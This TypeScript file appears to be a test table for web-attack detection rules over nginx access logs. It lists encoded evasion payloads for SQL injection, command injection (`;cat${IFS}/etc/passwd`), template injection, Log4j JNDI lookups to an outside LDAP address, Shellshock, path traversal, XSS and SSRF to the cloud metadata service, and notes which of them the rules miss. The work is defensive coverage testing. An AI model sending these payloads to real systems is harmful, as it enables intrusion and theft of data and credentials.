import { type Request, request } from '../../web-rules/request.ts';
import { SHAPES } from '../../web-rules/shapes.ts';
import { APPLICATION_LOG } from './logs.ts';
import { type Family, type HostFolder, type HostRow, type Outcome, SEEN, unseen } from './model.ts';

type Some = Partial<Request>;

const nginx = SHAPES['nginx combined'] ?? String;
const SQL = 'web_sql_injection';

function row(id: string, rule: string, attack: string, lines: string, outcome: Outcome): HostRow {
  const before = (host: HostFolder) => host.write(APPLICATION_LOG, '');
  const steps = [(host: HostFolder) => host.append(APPLICATION_LOG, lines)];
  return { id: `web-${id}`, in: 'host', attack, evades: [rule], outcome, before, steps };
}

const sent = (id: string, rule: string, attack: string, some: Some, outcome: Outcome = SEEN) =>
  row(id, rule, attack, `${nginx(request(some))}\n`, outcome);

const value = (text: string): Some => ({ target: `/page?id=${text}` });

const NOT_LOGGED = 'an access log has the request line, and those headers that its format names';
const BODIES = 'the application’s own log, or a proxy that inspects requests';
const WORDS = 'the rule knows how such things are usually written';
const PARSER = 'a parser for the language that is injected, per request';

export const WEB: Family = {
  title: 'Access logs',
  note: 'Requests in an access log of nginx, by the default rules on pods that ask for it. What is seen by another rule is said in [web rules](web-rules.md).',
  rows: [
    sent('sql', SQL, 'adds a condition that is always true, for comparison', value("1'%20or%20'1'='1")),
    sent('sql-twice', SQL, 'encodes it twice', value('1%2527%2520or%2520%25271%2527%253D%25271')),
    sent('sql-three-times', SQL, 'encodes it three times', value('1%252527%252520or%2525201%25253D1')),
    sent(
      'sql-four-times',
      SQL,
      'encodes it four times',
      value('1%25252527%25252520or%252525201%2525253D1'),
      unseen(
        'what is encoded more than three times no server decodes',
        'decoding until nothing changes, which an attacker can have go on',
      ),
    ),
    sent('sql-case', SQL, 'writes it in mixed case', value('-1%20uNiOn%20SeLeCt%201,2')),
    sent('sql-comments', SQL, 'has comments in place of spaces', value('-1/**/union/**/select/**/1,2')),
    sent(
      'sql-versioned',
      SQL,
      'hides keywords in comments that MySQL runs',
      value('-1%20/*!50000union*/%20/*!50000select*/%201'),
    ),
    sent(
      'sql-tabs',
      SQL,
      'has tabs and vertical tabs in place of spaces',
      value('-1%09union%0bselect%091,2'),
    ),
    sent(
      'sql-no-break-space',
      SQL,
      'has bytes A0 in place of spaces, which MySQL takes',
      value('-1%a0union%a0select%a01,2'),
    ),
    sent('sql-plus', SQL, 'writes spaces as +', value('-1+union+select+1,2')),
    sent('sql-iis', SQL, 'encodes as IIS has it (`%u0027`)', value('1%u0027%20or%201=1--%20')),
    sent(
      'sql-full-width',
      SQL,
      'writes letters in their full-width forms, for a database that takes the nearest of its own',
      value('-1%20%EF%BC%B5NION%20%EF%BC%B3ELECT%201,2'),
      unseen(
        'full-width forms are letters of their own in `decoded`',
        'Unicode’s normalization of each line',
      ),
    ),
    sent('sql-split', SQL, 'splits it over two parameters of one name, which the application joins', {
      target: '/page?id=-1%20union/*&id=*/select%201,2',
    }),
    sent(
      'sql-arithmetic',
      SQL,
      'compares without a quote, comment or word of SQL that stands out',
      value('1%20%2B%20(0%3D0)'),
      unseen(WORDS, PARSER),
    ),
    sent('sql-header', SQL, 'injects by the User-Agent', { userAgent: "x' and sleep(5) -- " }),
    sent(
      'sql-cookie',
      SQL,
      'injects by a cookie or another header that the log has not',
      { target: '/' },
      unseen(NOT_LOGGED, 'that header in the log’s format: rules see the whole line'),
    ),
    sent(
      'sql-body',
      SQL,
      'injects by a form that is posted',
      { method: 'POST', target: '/login', status: 500 },
      unseen('bodies are in no access log', BODIES),
    ),
    row(
      'long-line',
      SQL,
      'has 17,000 characters before the attack',
      `${nginx(request(value(`${'a'.repeat(17_000)}'%20or%201=1--%20`)))}\n`,
      unseen(
        'of a line the first 16 KiB are kept; most servers refuse such requests',
        'memory for each line that is being written, of each log',
      ),
    ),
    row(
      'json',
      SQL,
      'finds a server that logs JSON',
      `${(SHAPES['Traefik JSON'] ?? String)(request(value("1'%20or%20'1'%3D'1")))}\n`,
      SEEN,
    ),
    row(
      'other-format',
      SQL,
      'finds a server that logs paths alone, without method or protocol',
      "/page?id=1' or 1=1-- \n",
      unseen('a line is taken for a request if it has a method or `HTTP/`', 'the method in the log’s format'),
    ),
    sent('command', 'web_command_injection', 'adds a command, for comparison', value('127.0.0.1%3Bid')),
    sent(
      'command-ifs',
      'web_command_injection',
      'has `${IFS}` in place of spaces',
      value('%3Bcat%24%7BIFS%7D/etc/passwd'),
    ),
    sent(
      'command-line-feed',
      'web_command_injection',
      'separates it by a line feed',
      value('127.0.0.1%0awhoami'),
    ),
    sent('command-path', 'web_command_injection', 'gives the command’s whole path', value('%3B/usr/bin/id')),
    sent(
      'command-quotes',
      'web_command_injection',
      'breaks the command’s name by what the shell leaves out, such as quotes, backslashes or `$@`',
      value('127.0.0.1%3Bwho$@ami'),
      unseen(WORDS, 'undoing a shell’s quoting, in every text'),
    ),
    sent(
      'command-alone',
      'web_command_injection',
      'finds an application that runs what it is given, without a separator',
      { target: '/run?task=uptime%20-p' },
      unseen(WORDS, 'a rule of your own for that path; what is run shows as an exec'),
    ),
    sent('code', 'web_code_injection', 'has PHP include what is posted', {
      target: '/?-d+allow_url_include%3d1',
    }),
    sent('template', 'web_template_injection', 'has a template engine multiply', value('%7B%7B7*7%7D%7D')),
    sent(
      'template-hidden',
      'web_template_injection',
      'writes attributes of Jinja as texts',
      value("%7B%7B''%7Cattr('x')%7D%7D"),
    ),
    sent(
      'template-concatenated',
      'web_template_injection',
      'puts names together from pieces within the template',
      value("%7B%7Bx%5B'_'%2B'_init_'%2B'_'%5D%7D%7D"),
      unseen(WORDS, PARSER),
    ),
    sent('jndi', 'web_jndi_lookup', 'has Log4j fetch code, by the User-Agent', {
      userAgent: '${jndi:ldap://192.0.2.9/a}',
    }),
    sent('jndi-lower', 'web_jndi_lookup', 'puts the word together by lookups (`${lower:j}`)', {
      userAgent: '${${lower:j}ndi:ldap://192.0.2.9/a}',
    }),
    sent('jndi-default', 'web_jndi_lookup', 'puts it together by defaults of lookups (`${::-j}`)', {
      userAgent: '${${::-j}${::-n}di:ldap://192.0.2.9/a}',
    }),
    sent(
      'jndi-other-header',
      'web_jndi_lookup',
      'does so by a header that is not logged',
      {},
      unseen(NOT_LOGGED, 'that header in the log’s format; the callback shows as a new destination'),
    ),
    sent('shellshock', 'web_shellshock', 'begins a header as a function of bash', {
      userAgent: '() { :;}; /bin/id',
    }),
    sent('ognl', 'web_ognl_injection', 'has Struts evaluate an action’s prefix', {
      target: '/x.action?redirect:%24%7B%23a%3D1%7D',
    }),
    sent(
      'ognl-content-type',
      'web_ognl_injection',
      'does so by the Content-Type (CVE-2017-5638), which the combined format has not',
      { method: 'POST', target: '/x.action' },
      unseen(NOT_LOGGED, '`$content_type` in the log’s format'),
    ),
    sent('file', 'web_file_read', 'climbs to `/etc/passwd`, for comparison', {
      target: '/a?f=../../etc/passwd',
    }),
    sent('file-overlong', 'web_file_read', 'writes slashes as overlong UTF-8', {
      target: '/..%c0%af..%c0%afetc/passwd',
    }),
    sent('file-doubled', 'web_file_read', 'doubles dots and slashes, for a filter that takes some away', {
      target: '/a?f=....//....//etc/passwd',
    }),
    sent('file-nul', 'web_file_read', 'ends the name by a NUL', { target: '/a?f=../../etc/passwd%00.jpg' }),
    sent('file-backslash', 'web_file_read', 'climbs by backslashes', {
      target: '/a?f=..%5c..%5cwindows%5cwin.ini',
    }),
    sent(
      'file-other',
      'web_file_read',
      'climbs to a file of the application’s own',
      { target: '/a?f=../config/app.yml' },
      unseen(
        'two dots are in honest links too, and the file is one of thousands',
        'a canary file of your own, and a rule for its name',
      ),
    ),
    sent('climb', 'web_path_traversal', 'climbs six levels to a file that nobody knows', {
      target: '/a?f=../../../../../../x',
    }),
    sent('climb-encoded', 'web_path_traversal', 'encodes the dots', { target: '/%2e%2e/%2e%2e/x' }),
    sent('script', 'web_cross_site_scripting', 'sends a script', value('%3Cscript%3Ealert(1)%3C/script%3E')),
    sent(
      'script-case',
      'web_cross_site_scripting',
      'sends it in mixed case, in a tag that has no script',
      value('%3CsVg/OnLoAd%3Dalert(1)%3E'),
    ),
    sent(
      'script-entities',
      'web_cross_site_scripting',
      'sends it as entities alone, for a page that decodes them',
      value('%26lt;script%26gt;x()'),
      unseen(
        'entities are not undone: no server decodes them in a request',
        'decoding them too, in every text',
      ),
    ),
    sent('scanner', 'web_scanner', 'scans by a tool that gives its name', {
      userAgent: 'sqlmap/1.8.4#stable (https://sqlmap.org)',
    }),
    sent(
      'scanner-nameless',
      'web_scanner',
      'has the tool call itself a browser',
      { target: '/login' },
      unseen(
        'the name is the tool’s to choose; what it asks for is seen by the other rules',
        'nothing: a name is not evidence',
      ),
    ),
    sent('browsing', 'web_forced_browsing', 'asks for a repository', { target: '/.git/HEAD', status: 404 }),
    sent(
      'browsing-own',
      'web_forced_browsing',
      'guesses paths that are in no list',
      { target: '/internal/export', status: 404 },
      unseen(
        'there is always another path',
        'a rule on the rate of answers 404, which crawlers and broken links make too',
      ),
    ),
    sent('metadata', 'web_ssrf_metadata', 'names the metadata service', {
      target: '/fetch?url=http://169.254.169.254/latest/',
    }),
    sent('metadata-decimal', 'web_ssrf_metadata', 'writes its address as one number', {
      target: '/fetch?url=http://2852039166/',
    }),
    sent('metadata-octal', 'web_ssrf_metadata', 'writes it in octal', {
      target: '/fetch?url=http://0251.0376.0251.0376/',
    }),
    sent('metadata-ipv6', 'web_ssrf_metadata', 'writes it as IPv6', {
      target: '/fetch?url=http://%5B::ffff:a9fe:a9fe%5D/',
    }),
    sent(
      'metadata-name',
      'web_ssrf_metadata',
      'gives a name of its own that leads there, or a page that redirects there',
      { target: '/fetch?url=http://a.example.net/' },
      unseen(
        'a name says nothing of where it leads',
        'the connection itself shows: `cloud_metadata_service`',
      ),
    ),
    sent('shell', 'web_shell', 'calls a script among uploaded files', { target: '/uploads/x.php' }),
    sent('shell-command', 'web_shell', 'hands a script a command', { target: '/x.php?cmd=id' }),
    sent(
      'shell-posted',
      'web_shell',
      'hands it over in a body, to a script in an ordinary folder',
      { method: 'POST', target: '/themes/footer.php' },
      unseen('bodies are in no access log, and the path is like any other', 'what it runs shows as an exec'),
    ),
    sent('encoding', 'web_encoding_evasion', 'sends a NUL to end a name', { target: '/a?x=b%00.jpg' }),
    sent(
      'encoding-other',
      'web_encoding_evasion',
      'encodes in base64 what the application decodes',
      { target: '/a?x=JyBvciAxPTEtLSA' },
      unseen('tokens, pictures and states are base64 everywhere', 'guessing at every word of every request'),
    ),
  ],
};
